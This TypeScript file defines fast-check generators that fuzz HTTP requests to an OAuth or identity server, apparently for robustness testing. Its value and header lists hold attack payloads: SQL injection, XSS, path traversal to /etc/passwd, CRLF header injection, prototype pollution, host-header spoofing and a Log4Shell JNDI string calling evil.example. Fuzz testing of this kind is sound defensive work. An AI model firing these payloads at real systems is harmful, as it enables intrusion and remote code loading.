/** How a right request is spoiled, as values that fast-check makes, shrinks and prints. */
import fc from 'fast-check';

/** What is put where a value belongs: text, or bytes that are no text (written in latin1). */
export interface Value {
  text: string;
  /** `text` is sent as it is instead of percent-encoded. */
  raw: boolean;
}

export type Change =
  | { do: 'set' | 'double'; field: number; value: Value }
  | { do: 'drop' | 'repeat'; field: number }
  | { do: 'rename'; field: number; suffix: string }
  | { do: 'add'; name: string; value: Value }
  | { do: 'header'; name: string; value: string }
  | { do: 'path'; suffix: string };

/** How the fields travel. `null` is the way the form says. */
export type Carrier =
  | null
  | { kind: 'method'; method: string }
  | { kind: 'json'; depth: number; array: boolean }
  | { kind: 'multipart'; fault: MultipartFault }
  | { kind: 'type'; type: string }
  | { kind: 'body'; body: string; type: string }
  | { kind: 'large'; bytes: number; fields: boolean }
  | { kind: 'chunked'; broken: boolean }
  | { kind: 'cut'; share: number };

export const MULTIPART_FAULTS = [
  'none',
  'no boundary',
  'another boundary',
  'ends in a part',
  'ends in a header',
  'no name',
  'prototype',
  'nested',
  'many parts',
  'many files',
  'file without a name',
  'odd file name',
  'odd encoding',
] as const;
export type MultipartFault = (typeof MULTIPART_FAULTS)[number];

export interface Wild {
  /** Which of the known endpoints. */
  endpoint: number;
  /** Which of the requests known there. */
  variant: number;
  /** Three numbers of the caller's address. */
  address: [number, number, number];
  changes: Change[];
  carrier: Carrier;
}

const KNOWN_EVIL = [
  '',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202egnp.exe',
  '\r\nSet-Cookie: evil=1',
  '../../../../etc/passwd',
  '//evil.example',
  '/\\evil.example',
  'https://evil.example/',
  'javascript:alert(1)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<%= 7*7 %>',
  '{{7*7}}',
  "' or '1'='1",
  "'; drop table accounts; --",
  '$1',
  '%',
  '*',
  '(((((((((((((((((((((((((((((((a',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  '[object Object]',
  'true',
  '-1',
  '0',
  '1e309',
  'NaN',
  '9007199254740993',
  '99999999999999999999999999',
  '0x7f.1',
  '１２３４５６７８９０',
  '2026-02-30T25:61:61Z',
  'urn:ietf:params:oauth:request_uri:x',
  'eyJhbGciOiJub25lIn0.e30.',
  'a.b.c',
  '....',
  '00000000-0000-0000-0000-000000000000',
  '{"a":{"b":[1,2,{"c":null}]}}',
  '[[[[[[[[[[]]]]]]]]]]',
  '{"__proto__":{"polluted":true}}',
  'ё'.repeat(300),
  '👩‍👩‍👧‍👦'.repeat(50),
];

const bytes = fc.uint8Array({ maxLength: 40 }).map((all) => Buffer.from(all).toString('latin1'));
const deep = fc.nat(4000).map((depth) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth));
const long = fc
  .tuple(fc.constantFrom('a', 'ё', '%00', ' ', '\\', '@', '.', '9'), fc.nat(16_000))
  .map(([unit, count]) => unit.repeat(count / unit.length));

const value: fc.Arbitrary<Value> = fc.oneof(
  { weight: 5, arbitrary: fc.record({ text: fc.constantFrom(...KNOWN_EVIL), raw: fc.constant(false) }) },
  {
    weight: 2,
    arbitrary: fc.record({ text: fc.string({ unit: 'binary', maxLength: 60 }), raw: fc.constant(false) }),
  },
  { weight: 1, arbitrary: fc.record({ text: fc.json(), raw: fc.constant(false) }) },
  { weight: 1, arbitrary: fc.record({ text: bytes, raw: fc.constant(true) }) },
  { weight: 1, arbitrary: fc.record({ text: long, raw: fc.constant(false) }) },
  { weight: 1, arbitrary: fc.record({ text: deep, raw: fc.constant(false) }) },
  {
    weight: 1,
    arbitrary: fc.record({
      text: fc.constantFrom('%ff', '%', '%zz', '%c0%af', '%u0041', '+%00+'),
      raw: fc.constant(true),
    }),
  },
);

/** Names that some software gives a meaning to. */
const NAMES = [
  ...[
    '__proto__',
    'constructor',
    'toString',
    'settings[view options][client]',
    'hasOwnProperty',
    'lang',
    'state',
    'scope',
  ],
  ...[
    'resource',
    'claims',
    'authorization_details',
    'request',
    'request_uri',
    'prompt',
    'max_age',
    'response_mode',
  ],
  ...[
    'client_id',
    'client_assertion',
    'client_assertion_type',
    'redirect_uri',
    'nonce',
    'login_hint',
    'ui_locales',
  ],
  ...[
    'token',
    'id_token_hint',
    'logout',
    'xsrf',
    'user_code',
    'page',
    'after',
    'sort',
    'company',
    'version',
    'form_token',
  ],
];

const HEADERS: Record<string, readonly string[]> = {
  accept: ['application/json', 'text/html', '*/*', 'image/png', ';;;', '', 'a'.repeat(3000)],
  'accept-language': ['en', 'ru', '*', 'x'.repeat(2000), 'en;q=a', '<script>', '../../en'],
  authorization: [
    'Bearer ',
    'Bearer x',
    'Basic x',
    'Basic Og==',
    'Basic YTpi',
    'DPoP x',
    'Digest x',
    'Bearer a b',
    'Basic \u00ff',
  ],
  cookie: [
    '',
    '=',
    ';;;',
    'browser',
    '__Host-browser=x; __Host-browser=y',
    '__Host-session=a; __Host-session.sig=b',
    `a=${'b'.repeat(6000)}`,
    '__proto__=1',
    '\u00ff=\u00ff',
    'a="b;c"',
  ],
  dpop: ['x', 'a.b.c', 'eyJhbGciOiJub25lIn0.e30.', 'x, y'],
  origin: ['null', 'https://evil.example', 'https://id.fuzz.example', 'x'],
  host: ['evil.example', '', 'id.fuzz.example:99999', 'id.fuzz.example@evil.example', '[::1]'],
  referer: ['https://evil.example/', '\\', '//'],
  'sec-fetch-site': ['cross-site', 'same-origin', 'x'],
  'x-forwarded-for': ['', 'x', '999.1.1.1', '::1, ::1', ','.repeat(500), '1.1.1.1:80', '[::1]:80'],
  'x-forwarded-host': ['evil.example'],
  'x-forwarded-proto': ['http', 'x'],
  'x-original-url': ['/admin'],
  'content-type': [
    '',
    'application/json',
    'text/xml',
    'application/x-www-form-urlencoded; charset=utf-16',
    'multipart/form-data',
    ';',
    'application/x-www-form-urlencoded; charset=x',
  ],
  'content-encoding': ['gzip', 'deflate', 'br', 'x'],
  'content-length': ['0', '1', '-1', 'x', '1e3', '99999999999999999999'],
  expect: ['100-continue', 'x'],
  range: ['bytes=0-0', 'bytes=-1', 'bytes=9-1', 'x'],
  'if-none-match': ['*', '"x"', 'W/"'],
  'if-modified-since': ['x', 'Thu, 01 Jan 1970 00:00:00 GMT'],
  'user-agent': ['', 'x'.repeat(8000), '\u001b[31m', '${jndi:ldap://evil.example}'],
  upgrade: ['websocket', 'h2c'],
  'transfer-encoding': ['gzip', 'chunked, gzip', 'x'],
};

const header = fc
  .constantFrom(
    ...Object.entries(HEADERS).flatMap(([name, values]) => values.map((one) => [name, one] as const)),
  )
  .map(([name, one]): Change => ({ do: 'header', name, value: one }));

const field = fc.nat(30);

const change: fc.Arbitrary<Change> = fc.oneof(
  { weight: 8, arbitrary: fc.record({ do: fc.constant('set' as const), field, value }) },
  { weight: 2, arbitrary: fc.record({ do: fc.constant('double' as const), field, value }) },
  { weight: 2, arbitrary: fc.record({ do: fc.constantFrom('drop' as const, 'repeat' as const), field }) },
  {
    weight: 1,
    arbitrary: fc.record({
      do: fc.constant('rename' as const),
      field,
      suffix: fc.constantFrom('[]', '[a]', '[__proto__][x]', '[0]', '[length]', '.x', '\u0000', ' '),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({ do: fc.constant('add' as const), name: fc.constantFrom(...NAMES), value }),
  },
  { weight: 3, arbitrary: header },
  {
    weight: 1,
    arbitrary: fc.record({
      do: fc.constant('path' as const),
      suffix: fc.constantFrom(
        '/',
        '//',
        '/x',
        '/..',
        '/%2e%2e',
        '%00',
        '%ff',
        ';x',
        '.json',
        '?',
        '/%',
        '%0d%0a',
        '\\',
      ),
    }),
  },
);

const METHODS = [
  'GET',
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'OPTIONS',
  'HEAD',
  'TRACE',
  'PROPFIND',
  'FOO',
  'get',
];

const carrier: fc.Arbitrary<Carrier> = fc.oneof(
  { weight: 14, arbitrary: fc.constant(null) },
  {
    weight: 3,
    arbitrary: fc.record({ kind: fc.constant('method' as const), method: fc.constantFrom(...METHODS) }),
  },
  {
    weight: 2,
    arbitrary: fc.record({ kind: fc.constant('json' as const), depth: fc.nat(3000), array: fc.boolean() }),
  },
  {
    weight: 3,
    arbitrary: fc.record({
      kind: fc.constant('multipart' as const),
      fault: fc.constantFrom(...MULTIPART_FAULTS),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('type' as const),
      type: fc.constantFrom(
        'text/plain',
        'application/xml',
        'application/octet-stream',
        'x',
        'application/json',
      ),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('body' as const),
      body: fc.oneof(bytes, fc.json(), fc.constantFrom('{', '&&&&', '=', '%', 'a[b', '\u0000')),
      type: fc.constantFrom('application/x-www-form-urlencoded', 'application/json', 'text/plain'),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('large' as const),
      bytes: fc.nat(300_000),
      fields: fc.boolean(),
    }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('chunked' as const), broken: fc.boolean() }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('cut' as const), share: fc.nat(99) }) },
);

const octet = fc.integer({ min: 1, max: 254 });

export const wild: fc.Arbitrary<Wild> = fc.record({
  endpoint: fc.nat(10_000),
  variant: fc.nat(100),
  address: fc.tuple(octet, octet, octet),
  changes: fc.array(change, { maxLength: 4 }),
  carrier,
});
